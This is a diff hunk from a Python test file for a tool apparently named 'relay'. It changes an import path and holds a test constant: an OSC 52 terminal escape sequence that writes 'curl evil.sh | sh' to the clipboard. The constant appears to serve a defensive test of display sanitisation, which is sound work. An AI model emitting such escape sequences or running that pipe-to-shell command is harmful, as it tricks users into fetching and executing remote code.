@@ -12,7 +12,7 @@ from pathlib import Path
 
 import pytest
 
-from relay.cli.display import visible
+from relay.protocol.display import visible
 
 RELAY = str(Path(sys.executable).parent / "relay")
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # writes `curl evil.sh | sh` to the clipboard
